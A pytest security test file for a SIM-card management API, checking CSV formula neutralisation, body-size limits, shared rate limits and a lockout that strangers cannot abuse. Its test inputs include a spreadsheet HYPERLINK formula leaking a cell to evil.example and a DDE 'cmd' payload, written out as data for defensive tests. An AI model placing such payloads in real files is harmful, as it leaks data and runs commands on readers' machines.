"""Bad input and abuse cannot hurt the service: CSV exports carry no live formula, request bodies are
bounded before authentication, rate limits and the login lockout hold across API processes, and a
stranger's wrong passwords cannot lock the owner out."""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
import re
import socket
import uuid
from collections.abc import AsyncIterator, Iterable, Iterator

import httpx
import pytest
from fastapi import params
from fastapi.dependencies.models import Dependant
from fastapi.routing import APIRoute
from sqlalchemy import func, select
from starlette.routing import BaseRoute

from api.app import create_app
from api.limits import UPLOAD_PATHS
from api.ratelimit import RateLimiter
from domain.enums import SimStatus
from domain.errors import RateLimited
from domain.models import RateLimitHit, SimCard, SimImport
from infra.settings import Settings
from tests.api._security_support import (
    Db,
    add_staff_member,
    bearer,
    other_app,
    random_ip,
    token_response,
)
from tests.api._support import STRONG_PASSWORD, assert_problem, random_iccid, random_imsi
from tests.api.conftest import Tenant
from tests.e2e.topup_support import ApiServer

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2;"Cliquez ici")'


def _rows(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


# --- CSV exports --------------------------------------------------------------------------------------


async def test_sim_export_neutralises_formulas(app_client: httpx.AsyncClient, db: Db, tenant: Tenant) -> None:
    notes = {
        random_iccid(): FORMULA,
        random_iccid(): "+33612345678 appelle",
        random_iccid(): "-1+cmd|' /C calc'!A0",
        random_iccid(): "@SUM(1;2)",
        random_iccid(): "\t=1+1",
        random_iccid(): "\r=1+1",
        random_iccid(): "-1.50",  # a plain number stays a number
        random_iccid(): "note ordinaire = rien",
    }
    async with db.begin() as session:
        for iccid, note in notes.items():
            session.add(
                SimCard(
                    org_id=tenant.org_id,
                    company_id=tenant.company_id,
                    iccid=iccid,
                    imsi=random_imsi(),
                    carrier="Orange",
                    status=SimStatus.BLANK,
                    note=note,
                    tags=["=1+2"],
                )
            )
    response = await app_client.post(
        "/api/v1/sims/export",
        json={"iccids": list(notes), "columns": ["iccid", "note", "tags", "remaining_days"]},
        headers=tenant.org_staff,
    )
    rows = _rows(response)
    assert rows[0] == ["ICCID", "Note", "Étiquettes", "Jours restants"]
    exported = {row[0]: row[1] for row in rows[1:]}
    assert exported == {
        iccid: note if note in ("-1.50", "note ordinaire = rien") else "'" + note for iccid, note in notes.items()
    }
    assert {row[2] for row in rows[1:]} == {"'=1+2"}
    for row in rows[1:]:
        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r")) or row[1] == "-1.50"


async def test_import_error_report_neutralises_formulas(app_client: httpx.AsyncClient, db: Db, tenant: Tenant) -> None:
    batch = f"import-{uuid.uuid4().hex[:10]}"
    async with db.begin() as session:
        session.add(
            SimImport(
                org_id=tenant.org_id,
                batch=batch,
                rejected=1,
                errors=[{"row": 2, "iccid": "=1+2", "field": "iccid", "reason": "@invalide"}],
                created_by="test",
            )
        )
    rows = _rows(await app_client.get(f"/api/v1/sims/imports/{batch}/errors.csv", headers=tenant.org_staff))
    assert rows == [["ligne", "iccid", "champ", "motif"], ["2", "'=1+2", "iccid", "'@invalide"]]


# --- request body size -----------------------------------------------------------------------------------


class Body:
    """A request body streamed in chunks, counting what the server pulled."""

    def __init__(self, total: int, chunk: int = 64 * 1024, head: bytes = b"") -> None:
        self.total, self.chunk, self.head, self.pulled = total, chunk, head, 0

    async def __aiter__(self) -> AsyncIterator[bytes]:
        sent = 0
        while sent < self.total:
            piece = (self.head if sent == 0 else b"") + b"x" * self.chunk
            self.pulled += len(piece)
            sent += len(piece)
            yield piece


MULTIPART = "multipart/form-data; boundary=simflow-boundary"
PART_HEAD = (
    b'--simflow-boundary\r\nContent-Disposition: form-data; name="file"; filename="sims.csv"\r\n'
    b"Content-Type: text/csv\r\n\r\n"
)


async def test_oversized_upload_is_refused_by_its_length_before_authentication(settings: Settings) -> None:
    async with other_app(settings, max_upload_body_bytes=100_000) as client:
        body = Body(total=1_000_000, head=PART_HEAD)
        response = await client.post(
            "/api/v1/sims/import",
            content=body,
            headers={"Content-Type": MULTIPART, "Content-Length": str(10 * 1024**3)},  # "10 GB", no credentials
        )
    assert_problem(response, 413)
    assert response.json()["code"] == "request.payload_too_large"
    assert body.pulled == 0  # refused on the announced length: not one byte read


async def test_chunked_upload_is_cut_off_at_the_limit(settings: Settings) -> None:
    limit = 200_000
    async with other_app(settings, max_upload_body_bytes=limit) as client:
        body = Body(total=20 * 1024 * 1024, head=PART_HEAD)  # no Content-Length: chunked
        response = await client.post("/api/v1/sims/import", content=body, headers={"Content-Type": MULTIPART})
        assert_problem(response, 413)
        assert body.pulled <= limit + body.chunk + len(PART_HEAD)
        portal = Body(total=20 * 1024 * 1024, head=PART_HEAD)
        page = await client.post("/portal/imports", content=portal, headers={"Content-Type": MULTIPART})
        assert page.status_code == 413
        assert portal.pulled <= limit + portal.chunk + len(PART_HEAD)


async def test_json_routes_have_a_small_limit_and_file_routes_their_own(
    settings: Settings, db: Db, tenant: Tenant
) -> None:
    async with other_app(settings, max_request_body_bytes=2_000, max_upload_body_bytes=60_000) as client:
        headers = await bearer(client, tenant.org_staff_email)
        iccids = [random_iccid() for _ in range(150)]  # about 3.5 kB of JSON
        export = await client.post("/api/v1/sims/export", json={"iccids": iccids}, headers=headers)
        assert_problem(export, 413)
        login = await client.post("/api/v1/auth/token", data={"username": "x" * 3000, "password": "y"})
        assert_problem(login, 413)

        rows = [f"{random_iccid()};{random_imsi()};12345678;87654321;Orange;non" for _ in range(60)]
        csv_file = ("iccid;imsi;puk1;puk2;carrier;esim\n" + "\n".join(rows) + "\n").encode()
        assert 2_000 < len(csv_file) < 60_000
        imported = await client.post(
            "/api/v1/sims/import", files={"file": ("sims.csv", csv_file, "text/csv")}, headers=headers
        )
        assert imported.status_code == 200, imported.text
        assert imported.json()["accepted"] == 60
        too_big = await client.post(
            "/api/v1/sims/import", files={"file": ("sims.csv", csv_file * 30, "text/csv")}, headers=headers
        )
        assert_problem(too_big, 413)


def test_every_file_upload_route_has_its_own_limit(settings: Settings) -> None:
    """A new route taking a file must be listed with the upload limit, or it would refuse every real file."""

    def takes_a_file(dependant: Dependant) -> bool:
        return any(isinstance(p.field_info, params.File) for p in dependant.body_params) or any(
            takes_a_file(d) for d in dependant.dependencies
        )

    def routes(container: Iterable[BaseRoute]) -> Iterator[APIRoute]:
        for route in container:
            included = getattr(route, "original_router", None)  # an included router, not flattened
            if included is not None:
                yield from routes(included.routes)
            elif isinstance(route, APIRoute):
                yield route

    uploads = {route.path for route in routes(create_app(settings).routes) if takes_a_file(route.dependant)}
    assert uploads == set(UPLOAD_PATHS)
    assert len(uploads) >= 4


# --- rate limits shared by every API process ---------------------------------------------------------------


async def _hits(db: Db, key: str | None = None) -> int:
    async with db() as session:
        query = select(func.count()).select_from(RateLimitHit)
        if key is not None:
            query = query.where(RateLimitHit.key == key)
        return int((await session.execute(query)).scalar_one())


async def test_limits_forget_keys_whose_window_ended_and_the_table_is_bounded(db: Db) -> None:
    now = [1_000_000.0]
    limiter = RateLimiter(db, clock=lambda: now[0], max_rows=50)
    key = f"test:{uuid.uuid4().hex}"
    for _ in range(3):
        await limiter.take(key, 3, 60)
    with pytest.raises(RateLimited) as refused:
        await limiter.take(key, 3, 60)
    assert refused.value.retry_after_s == 60
    now[0] += 30
    assert await limiter.retry_after(key, 3, 60) == 30
    now[0] += 31
    assert await limiter.retry_after(key, 3, 60) is None
    await limiter.prune()
    assert await _hits(db, key) == 0  # the key is gone, not kept empty

    flood = f"flood:{uuid.uuid4().hex}"
    for n in range(80):  # distinct keys, all inside their window
        await limiter.hit(f"{flood}:{n}", 3600)
    await limiter.prune()
    assert await _hits(db) <= 50
    await limiter.take(key, 3, 60)  # still counting after the table was cut


async def test_a_limit_reached_through_one_api_holds_on_the_other(settings: Settings, db: Db, tenant: Tenant) -> None:
    email, _ = await add_staff_member(db, org_id=tenant.org_id)
    address = random_ip()
    limits = {"rate_limit_login_failures_per_ip": 3, "login_max_failures": 100, "rate_limit_password_resets_per_ip": 2}
    async with (
        other_app(settings, client_ip=address, **limits) as first,
        other_app(settings, client_ip=address, **limits) as second,
    ):
        for _ in range(3):
            assert_problem(await token_response(first, f"nobody-{uuid.uuid4().hex[:6]}@x.fr", "Wrong-pass-1!"), 401)
        limited = await token_response(second, email, STRONG_PASSWORD)
        assert_problem(limited, 429)
        assert 1 <= int(limited.headers["retry-after"]) <= settings.rate_limit_window_s

        for client in (first, second):
            forgot = await client.post("/api/v1/auth/password/forgot", json={"email": f"x{uuid.uuid4().hex[:6]}@x.fr"})
            assert forgot.status_code == 202
        refused = await first.post("/api/v1/auth/password/forgot", json={"email": email})
        assert_problem(refused, 429)
        assert int(refused.headers["retry-after"]) >= 1


async def test_password_reset_requests_are_limited_per_address(settings: Settings, db: Db, tenant: Tenant) -> None:
    async with other_app(settings, rate_limit_password_resets_per_ip=3) as client:
        for _ in range(3):  # three different accounts from one address
            forgot = await client.post("/api/v1/auth/password/forgot", json={"email": f"y{uuid.uuid4().hex[:6]}@x.fr"})
            assert forgot.status_code == 202, forgot.text
        refused = await client.post("/api/v1/auth/password/forgot", json={"email": f"z{uuid.uuid4().hex[:6]}@x.fr"})
        assert_problem(refused, 429)
        assert int(refused.headers["retry-after"]) >= 1
    async with other_app(settings, rate_limit_password_resets_per_ip=3) as elsewhere:
        forgot = await elsewhere.post("/api/v1/auth/password/forgot", json={"email": f"y{uuid.uuid4().hex[:6]}@x.fr"})
        assert forgot.status_code == 202  # another address has its own budget


# --- lockout cannot be turned against the owner -----------------------------------------------------------


async def test_a_stranger_cannot_lock_the_owner_out(settings: Settings, db: Db, tenant: Tenant) -> None:
    email, _ = await add_staff_member(db, org_id=tenant.org_id)
    stranger = random_ip()
    async with (
        other_app(settings, client_ip=stranger) as attacker,
        other_app(settings, client_ip=stranger) as attacker_elsewhere,  # another API process, same address
        other_app(settings) as owner,
    ):
        for _ in range(settings.login_max_failures):
            assert_problem(await token_response(attacker, email, "Wrong-password-1!"), 401)
        # the stranger's address is locked out of this account, even with the right password, on every API
        for client in (attacker, attacker_elsewhere):
            refused = await token_response(client, email, STRONG_PASSWORD)
            assert_problem(refused, 401)
            assert refused.json()["code"] == "auth.authentication_failed"
        # the owner, from another address, still logs in: API and portal
        assert (await token_response(owner, email, STRONG_PASSWORD)).status_code == 200
        page = await owner.get("/portal/login")
        match = re.search(r'name="csrf_token" value="([0-9a-f]{64})"', page.text)
        assert match, "no csrf_token in the login page"
        signed_in = await owner.post(
            "/portal/login", data={"email": email, "password": STRONG_PASSWORD, "csrf_token": match.group(1)}
        )
        assert signed_in.status_code == 303, signed_in.text


async def test_guessing_one_account_from_many_addresses_is_slowed_down(
    settings: Settings, db: Db, tenant: Tenant
) -> None:
    email, _ = await add_staff_member(db, org_id=tenant.org_id)
    unknown = f"nobody-{uuid.uuid4().hex[:8]}@test.simflow"
    free = 4
    app = create_app(settings.model_copy(update={"login_account_free_failures": free, "login_account_max_delay_s": 30}))

    async def attempt(target: str, password: str = "Wrong-password-1!") -> httpx.Response:
        """One attempt from a new address: no address ever reaches its own lockout."""
        transport = httpx.ASGITransport(app=app, client=(random_ip(), 40000))
        async with httpx.AsyncClient(transport=transport, base_url="http://simflow.test") as client:
            return await token_response(client, target, password)

    async with app.router.lifespan_context(app):
        for target in (email, unknown):  # an unknown address is throttled alike: nothing to enumerate
            for _ in range(free):
                assert_problem(await attempt(target), 401)
            slowed = await attempt(target)
            assert_problem(slowed, 429)
            assert int(slowed.headers["retry-after"]) == 1
        await asyncio.sleep(1.2)
        assert_problem(await attempt(email), 401)  # one more guess after the wait…
        longer = await attempt(email, STRONG_PASSWORD)
        assert_problem(longer, 429)  # …and the next wait doubles, for the owner too
        assert int(longer.headers["retry-after"]) == 2
        await asyncio.sleep(2.2)
        assert (await attempt(email, STRONG_PASSWORD)).status_code == 200  # delayed, never locked out


def _raw_request(port: int, head: bytes, chunks: Iterable[bytes] = ()) -> tuple[bytes, int]:
    """Sends `head`, then `chunks` until the server answers; returns (the answer's first bytes, body bytes
    sent)."""
    sent = 0
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(head)
        sock.setblocking(False)
        for chunk in chunks:
            try:
                answer = sock.recv(4096)
                if answer:
                    return answer, sent
            except BlockingIOError:
                pass
            try:
                sock.sendall(chunk)
            except (BlockingIOError, BrokenPipeError, ConnectionResetError):
                break
            sent += len(chunk)
        sock.setblocking(True)
        return sock.recv(4096), sent


def test_a_real_server_refuses_the_upload_without_taking_it_in(settings: Settings) -> None:
    """Over a socket, under uvicorn: the 10 GB announcement is answered at once; a chunked upload is cut
    off near the limit while the client is still sending."""
    limit = 100_000
    with ApiServer(settings.model_copy(update={"max_upload_body_bytes": limit})) as server:
        announced = (
            b"POST /api/v1/sims/import HTTP/1.1\r\nHost: simflow.test\r\n"
            + f"Content-Type: {MULTIPART}\r\nContent-Length: {10 * 1024**3}\r\n\r\n".encode()
        )
        answer, _ = _raw_request(server.port, announced)
        assert answer.startswith(b"HTTP/1.1 413"), answer

        chunked = (
            b"POST /api/v1/sims/import HTTP/1.1\r\nHost: simflow.test\r\n"
            + f"Content-Type: {MULTIPART}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
        )
        pieces = itertools.chain([PART_HEAD], itertools.repeat(b"x" * 16_384, 64 * 1024))  # 1 GB offered
        chunks = (f"{len(piece):x}\r\n".encode() + piece + b"\r\n" for piece in pieces)
        answer, sent = _raw_request(server.port, chunked, chunks)
        assert answer.startswith(b"HTTP/1.1 413"), answer
        assert sent < 50 * limit  # stopped long before the gigabyte (socket buffers hold the rest)
